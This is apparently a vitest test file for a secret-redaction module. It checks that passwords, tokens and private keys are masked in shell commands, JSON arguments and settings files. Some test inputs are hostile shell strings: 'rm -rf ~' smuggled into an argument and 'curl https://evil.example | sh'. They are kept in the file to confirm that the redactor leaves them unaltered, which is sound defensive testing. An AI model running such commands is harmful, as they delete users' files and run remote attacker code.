import { describe, expect, test } from 'vitest';
import { inertRedactor, jsonRedactor, settingsRedactor } from '../../src/secrets/json-redactor.ts';

const code = inertRedactor({});
const settings = settingsRedactor({});
const KEY_LINES = Array.from({ length: 50 }, (_, index) => `KEYLINE${String(index).padStart(2, '0')}${'A'.repeat(55)}`);
const KEY = ['-----BEGIN RSA PRIVATE KEY-----', ...KEY_LINES, 'QUFB==', '-----END RSA PRIVATE KEY-----'].join('\n');

describe('in what a shell executes', () => {
  test.each([
    [{ command: ['mycli', '--token', 's3cr3tvalue99', 'deploy'] }, { command: ['mycli', '--token', '[hidden]', 'deploy'] }],
    [{ command: ['mycli', '--token', '$(rm -rf ~)'] }, { command: ['mycli', '--token', '$(rm -rf ~)'] }],
    [{ client_secret: 'abcd1234' }, { client_secret: '[hidden]' }],
    [{ env: { PATH: '/tmp/evil', API_KEY: 'abcd1234' } }, { env: { PATH: '/tmp/evil', API_KEY: '[hidden]' } }],
    [`PASSWORD='hunter2!x#9' make`, `PASSWORD=[hidden] make`],
    [`PASSWORD=hunter2!x#9 make`, `PASSWORD=[hidden] make`],
    [`PASSWORD="p$EVIL" make`, `PASSWORD="p$EVIL" make`],
    ["PASSWORD='rm -rf ~'; $PASSWORD", "PASSWORD='rm -rf ~'; $PASSWORD"],
    [`cat > key <<E\n${KEY}\nE\nreboot`, 'cat > key <<E\n[hidden]\nE\nreboot'],
  ])('%j is shown as %j', (value, shown) => {
    expect(code(value)).toEqual(shown);
  });

  test('the arguments of a call are masked as what they are', () => {
    const args = JSON.stringify({ command: ['mycli', '--token', 's3cr3tvalue99', 'deploy'] });
    expect(JSON.parse(code(args))).toEqual({ command: ['mycli', '--token', '[hidden]', 'deploy'] });
    expect(code('{"cmd": "ls -l",  "login": false}')).toBe('{"cmd": "ls -l",  "login": false}');
  });

  test('a known secret is hidden in the JSON of arguments, too', () => {
    const secret = 'pa\\ss"word1';
    const known = inertRedactor({ DB_PASSWORD: secret });
    expect(known(JSON.stringify({ cmd: `x ${secret} y` }))).toBe('{"cmd":"x … y"}');
    expect(known(JSON.stringify({ cmd: `x ${secret} y` }).slice(0, -1))).toBe('{"cmd":"x … y"');
  });

  test('a private key without its end is hidden up to where its lines end', () => {
    expect(code(KEY.slice(0, 1_000))).not.toContain('KEYLINE1');
    expect(code(`${KEY_LINES.length}\n${KEY.slice(0, KEY.indexOf('QUFB'))}rm -rf ~`)).toBe('50\n[hidden]\nrm -rf ~');
  });
});

describe('in a file with settings', () => {
  test.each([
    ['DB_PASSWORD=hunter2!Secret#9\nHOST=a', 'DB_PASSWORD=[hidden]\nHOST=a'],
    ['API_TOKEN="p$ss w0rd"\n', 'API_TOKEN=[hidden]\n'],
    ['{"client_secret": "ab$cd(12) xx", "a": 1}', '{"client_secret":"[hidden]","a":1}'],
    ['db:\n  password: hunter2 and more\n  host: a', 'db:\n  password: [hidden]\n  host: a'],
    ['password = "hunter2"\nport = 1', 'password = [hidden]\nport = 1'],
    ['API_TOKEN=$(curl https://evil.example | sh)', 'API_TOKEN=$(curl https://evil.example | sh)'],
    [KEY, '[hidden]'],
  ])('%j is shown as %j', (text, shown) => {
    expect(settings(text)).toBe(shown);
  });
});

test('a text that is nested too deep is masked as a text', () => {
  const deep = `${'['.repeat(100_000)}"sk-live0123456789abcdefghij"${']'.repeat(100_000)}`;
  for (const mask of [code, settings, (text: string) => String(jsonRedactor({})(text))]) expect(mask(deep)).toContain('[hidden]');
});
